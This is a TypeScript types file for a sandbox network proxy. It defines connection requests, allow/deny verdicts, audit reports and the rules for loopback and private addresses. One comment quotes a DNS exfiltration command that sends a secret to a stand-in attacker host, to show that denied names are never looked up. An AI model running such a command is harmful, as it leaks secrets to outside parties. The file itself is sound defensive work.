/**
 * The contract between the network proxy (what a sandboxed run connects to) and the daemon's decision on
 * each new connection (issue 33). Pure types.
 *
 * Trust boundary: a `ConnectionRequest` is built by the proxy from what the sandboxed program sent (host,
 * port, protocol: untrusted) and from what the daemon knows itself (the run, by the socket the connection
 * came in on; the addresses, by the proxy's own resolution). Nothing in it comes from a field the sandbox
 * can set about who it is.
 */
import type { NetworkProtocol } from '../rules/index.js';

export type { NetworkProtocol };

/** One new connection a sandboxed run asks the proxy for. */
export interface ConnectionRequest {
  /** the daemon's id of the run whose sandbox reached the proxy (from the socket it came in on) */
  runId: string;
  /** canonical host as asked (lower case, no trailing dot; IPv6 without brackets), as rules/network.ts normalises */
  host: string;
  port: number;
  /** http: plain HTTP forwarded; https: HTTP CONNECT; socks5_tcp / socks5_udp: SOCKS5 */
  protocol: NetworkProtocol;
  /**
   * The addresses the proxy connects to (it connects only to these). At `decide()` a name has none yet: the
   * proxy resolves a name only after an allow, so a denied name is never looked up (no DNS exfiltration:
   * `curl http://<secret>.attacker.example` sends nothing anywhere). An IP literal is its own address.
   * `closed()` reports the addresses resolved and connected to.
   */
  addresses: string[];
}

/** Where a connection decision came from (audited; `gate log --decision` filters on `decision`). */
export type VerdictSource = 'rule' | 'config' | 'granted-run' | 'granted-session' | 'approval' | 'policy' | 'default';

export interface ConnectionVerdict {
  decision: 'allow' | 'deny';
  /** one line for a person: shown in the 403 body, the SOCKS failure log and `gate-sh: network: denied ...` */
  reason: string;
  source: VerdictSource;
  /** `file:line` of the deciding network_rule, when a rule decided */
  rule?: string;
  /**
   * An allow that names this very host (an exact `network_rule(host=...)`, a config entry of this host, an
   * approval of this host): not a wildcard (`*.x`, `**.x`), not a default. Only then may the proxy connect
   * to a loopback, private (RFC 1918, fc00::/7), link-local, CGNAT, unspecified or multicast address, for a
   * host that is such a literal or whose name resolves there (src/network/address-ranges.ts); otherwise the
   * proxy refuses after the allow ("<host> resolves to 127.0.0.1 (loopback), which no rule names").
   */
  namesHost?: boolean;
}

/** What a connection carried, reported once when it closes (for the audit record). */
export interface ConnectionClosed {
  request: ConnectionRequest;
  verdict: ConnectionVerdict;
  bytesUp: number;
  bytesDown: number;
  durationMs: number;
  /** why the proxy refused or failed a connection the verdict allowed: the name did not resolve (fails
   *  closed), it resolved to a local range no rule names, the TLS server name differs from the host, the
   *  destination refused; absent when it carried data as asked */
  error?: string;
}

/**
 * The daemon's side: decide a new connection (may wait for a person; `signal` aborts when the client went
 * away) and hear about it when it closes.
 */
export interface NetworkDecider {
  decide(request: ConnectionRequest, signal: AbortSignal): Promise<ConnectionVerdict>;
  closed(report: ConnectionClosed): void;
}
